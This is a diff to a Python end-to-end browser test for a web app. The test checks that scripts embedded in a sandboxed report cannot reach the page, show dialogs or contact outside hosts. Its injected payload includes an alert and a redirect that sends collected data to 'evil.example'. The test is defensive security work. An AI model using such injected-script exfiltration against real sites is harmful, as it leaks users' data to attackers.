@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import threading
-import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -18,6 +17,7 @@ from tests.e2e.payloads import PAYLOADS
 from tests.unit.stores.examples import MODEL
 from tests.unit.web.conftest import SECRET, Roles, Surroundings
 from tests.unit.web.year import fill
+from tests.waiting import until
 from windvane.stores import open_stores
 from windvane.web.app import create_app
 from windvane.web.host import Host
@@ -58,8 +58,7 @@ class Served:
 
     def __enter__(self) -> str:
         self._thread.start()
-        while not self._server.started:
-            time.sleep(0.02)
+        until(lambda: self._server.started, "the pages are served")
         return self.url
 
     def __exit__(self, *_: object) -> None:
@@ -190,23 +189,26 @@ def test_scripts_in_a_report_reach_neither_the_pages_nor_the_network(browser: Br
     lines = "".join(f"try {{ {code}; told.push('{name}') }} catch (error) {{}}\n" for name, code in tries.items())
     rest = "fetch('/api').then(() => told.push('fetch')).catch(() => told.push('no fetch'));"
     shown = "setTimeout(() => { document.body.append('told: ' + told.join()); }, 500);"
-    leaving = "setTimeout(() => { location = 'http://evil.example/?told=' + told; }, 1500);"
+    leaving = (
+        "setTimeout(() => { location = 'http://evil.example/?told=' + told; parent.postMessage('tried', '*'); }, 1500);"
+    )
     hostile = f"<script>const told = [];\n{lines}{rest}{shown}{leaving}alert(1);</script>"
     with Served(tmp_path, hostile) as url:
         context = context_of(browser)
+        context.add_init_script("window.addEventListener('message', () => { window.__tried = true; });")
         page = context.new_page()
         dialogs, requested = listening(page)
         page.goto(f"{url}/models/{MODEL}/windows/2013-04")
         assert not [address for address in requested if address.endswith("/report")], "loaded before it is asked for"
         page.get_by_text("Show the report").click()
         expect(page.frame_locator("iframe.report").locator("body")).to_contain_text("told: no fetch")
-        page.wait_for_timeout(1500)
+        until(lambda: bool(page.evaluate("window.__tried")), "the report tries to leave")
         assert page.evaluate("window.__ran") is None
         assert page.url.startswith(url)
-        assert dialogs == []
-        assert {address for address in requested if not address.startswith(url)} == set()
         page.goto(f"{url}/models/{MODEL}/windows/2013-04/report")
         assert page.url.endswith("/windows/2013-04")
+        assert dialogs == []
+        assert {address for address in requested if not address.startswith(url)} == set()
         context.close()
 
 
